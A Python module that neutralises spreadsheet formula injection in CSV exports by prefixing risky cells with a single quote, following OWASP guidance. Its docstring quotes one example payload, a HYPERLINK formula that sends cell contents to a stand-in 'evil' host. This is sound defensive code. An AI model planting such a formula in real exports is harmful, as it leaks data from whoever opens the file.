"""CSV rows whose cells a spreadsheet shows as text, never runs as a formula.

Exports carry other people's text (dataset lines, model answers, eval and
grader names): a cell such as `=HYPERLINK("http://evil/?"&A1,"click")` or
`@SUM(...)` becomes a live formula when the CSV is opened in Excel, Sheets or
LibreOffice. Following OWASP's CSV injection guidance, a text cell that starts
with =, +, -, @, a tab or a carriage return gets a leading single quote, which
spreadsheets take as "this cell is text" and hide. Numbers are left as they
are (a negative score is a number, not a formula). Every CSV tunedeck writes
goes through `csv_writer`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutral(value: Any) -> Any:
    """`value` as a cell no spreadsheet evaluates."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer's writerow, with every cell passed through `neutral`."""

    def __init__(self, handle: IO[str]) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutral(cell) for cell in row])


def csv_writer(handle: IO[str]) -> SafeWriter:
    return SafeWriter(handle)
